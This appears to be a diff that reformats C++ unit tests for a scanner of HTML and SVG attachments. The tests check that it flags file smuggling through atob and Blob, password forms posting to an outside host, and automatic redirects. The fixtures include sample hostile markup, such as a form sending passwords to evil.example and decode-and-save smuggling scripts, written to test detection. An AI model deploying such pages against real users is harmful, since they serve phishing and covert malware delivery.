@@ -21,14 +21,15 @@ const std::string kLarge(6000, 'A');
 }  // namespace
 
 TEST_CASE("a script that decodes a large text and saves it as a file smuggles") {
-  const auto found = inspect(script(
-      "var d = atob('" + kLarge + "'); var b = new Blob([d]); a.href = URL.createObjectURL(b);"));
+  const auto found = inspect(script("var d = atob('" + kLarge +
+                                    "'); var b = new Blob([d]); a.href = URL.createObjectURL(b);"));
   CHECK(found.holds("smuggled_file"));
   CHECK(found.facts().front().name == "script");
 }
 
 TEST_CASE("blanks, case and the encoded text's place do not hide it") {
-  CHECK(inspect(script("x=AtOb ( `" + kLarge + "` ); navigator . msSaveBlob(x)")).holds("smuggled_file"));
+  CHECK(inspect(script("x=AtOb ( `" + kLarge + "` ); navigator . msSaveBlob(x)"))
+            .holds("smuggled_file"));
   CHECK(inspect("<body data-x='" + kLarge + "' onload='y=atob(document.body.dataset.x);" +
                 "URL.createObjectURL(new Blob([y]))'>")
             .holds("smuggled_file"));
@@ -41,9 +42,9 @@ TEST_CASE("a download link that holds the file itself smuggles") {
 }
 
 TEST_CASE("pictures that a page carries, and small texts, do not") {
-  CHECK_FALSE(inspect(script("i.src = 'data:image/png;base64," + kLarge +
-                             "'; atob('QUJD'); new Blob([1])"))
-                  .holds("smuggled_file"));
+  CHECK_FALSE(
+      inspect(script("i.src = 'data:image/png;base64," + kLarge + "'; atob('QUJD'); new Blob([1])"))
+          .holds("smuggled_file"));
   CHECK_FALSE(inspect("<img src='data:image/png;base64," + kLarge +
                       "'><script>atob('QQ'); new Blob([1])</script>")
                   .holds("smuggled_file"));
@@ -57,8 +58,8 @@ TEST_CASE("a script that decodes what it then runs or writes is told") {
 }
 
 TEST_CASE("forms: where a password is asked for, and where it goes") {
-  const auto found = inspect(
-      "<form action='https://evil.example/take'><input type=PASSWORD name=p></form>");
+  const auto found =
+      inspect("<form action='https://evil.example/take'><input type=PASSWORD name=p></form>");
   CHECK(found.holds("password_form"));
   REQUIRE(found.holds("form_elsewhere"));
   CHECK(found.urls() == std::vector<std::string>{"https://evil.example/take"});
@@ -67,8 +68,7 @@ TEST_CASE("forms: where a password is asked for, and where it goes") {
 
 TEST_CASE("a page that leaves by itself") {
   CHECK(inspect(script("window.location='https://evil.example'")).holds("script_leaves"));
-  const auto refresh =
-      inspect("<meta http-equiv=refresh content='0; URL=https://evil.example/a'>");
+  const auto refresh = inspect("<meta http-equiv=refresh content='0; URL=https://evil.example/a'>");
   CHECK(refresh.holds("script_leaves"));
   CHECK(refresh.urls() == std::vector<std::string>{"https://evil.example/a"});
   CHECK_FALSE(inspect("<meta http-equiv=refresh content=30>").holds("script_leaves"));
@@ -86,7 +86,9 @@ TEST_CASE("an SVG picture is a page too, by type or by name") {
   CHECK(is_html_document("", "Logo.SVG"));
   CHECK(is_html_document("", "page.htm"));
   CHECK_FALSE(is_html_document("application/pdf", "html.pdf"));
-  CHECK(inspect("<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[location.href='//x']]></script></svg>")
+  CHECK(inspect("<svg "
+                "xmlns='http://www.w3.org/2000/svg'><script><![CDATA[location.href='//x']]></"
+                "script></svg>")
             .holds("script_leaves"));
 }
 
